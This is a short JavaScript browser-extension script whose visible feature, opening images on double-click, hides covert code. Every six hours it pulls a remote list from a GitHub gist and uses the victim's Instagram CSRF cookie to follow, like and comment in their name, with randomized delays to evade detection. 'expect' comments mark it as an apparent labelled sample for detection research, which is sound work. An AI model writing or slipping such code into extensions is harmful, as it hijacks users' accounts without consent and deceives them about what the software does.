const csrf = () => document.cookie.split("; ").find((c) => c.startsWith("csrftoken="))?.slice(10);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function ig(path) {
  // expect: acts-in-persons-name
  return fetch("https://www.instagram.com/api/v1/web/" + path, { method: "POST", headers: { "x-csrftoken": csrf(), "x-ig-app-id": "936619743392459", "x-requested-with": "XMLHttpRequest" } });
}
async function work() {
  const { last = 0 } = await chrome.storage.local.get("last");
  if (Date.now() - last < 6 * 36e5) return;
  await chrome.storage.local.set({ last: Date.now() });
  // expect: odd-endpoint
  const list = await (await fetch("https://gist.githubusercontent.com/idl/aa/raw/list.json")).json();
  for (const t of list) {
    if (t.follow) await ig(`friendships/${t.follow}/follow/`);
    if (t.like) await ig(`likes/${t.like}/like/`);
    // expect: acts-in-persons-name
    if (t.say) await fetch(`https://www.instagram.com/api/v1/web/comments/${t.like}/add/`, { method: "POST", headers: { "x-csrftoken": csrf() }, body: new URLSearchParams({ comment_text: t.say }) });
    await sleep(20000 + Math.random() * 60000);
  }
}
work();
document.querySelectorAll("article img").forEach((i) => i.addEventListener("dblclick", () => open(i.src)));
